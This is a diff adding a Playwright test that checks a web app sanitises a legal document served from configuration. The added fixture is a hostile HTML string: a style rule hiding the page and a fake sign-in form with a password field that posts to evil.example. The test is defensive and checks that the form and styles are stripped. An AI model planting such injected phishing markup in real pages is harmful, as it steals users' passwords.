@@ -18,6 +18,22 @@ test('legal documents come from the config, sanitised before display', async ({ 
   expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
 });
 
+test('a hostile legal document cannot blank the app or ask for a password (issue 22)', async ({ page }) => {
+  await page.route('**/legal/terms-of-use.en.html', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: '<style>body{display:none}</style><h1 style="display:none">Operator terms</h1><form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form><p>Plain text stays</p>',
+    }),
+  );
+  await page.goto('/terms-of-use?device=desktop');
+  await expect(page.getByRole('heading', { name: 'Operator terms' })).toBeVisible();
+  await expect(page.getByText('Plain text stays')).toBeVisible();
+  const body = page.locator('.static-page__body');
+  await expect(body.locator('style, form, input, button')).toHaveCount(0);
+  expect(await body.innerHTML()).not.toContain('style=');
+  await expect(page.locator('body')).toBeVisible();
+});
+
 test('Spanish viewers get the Spanish document; without documents, the built-in text', async ({ page }) => {
   await page.addInitScript(() => localStorage.setItem('ott.language', 'es'));
   await page.goto('/privacy-policy?device=desktop');
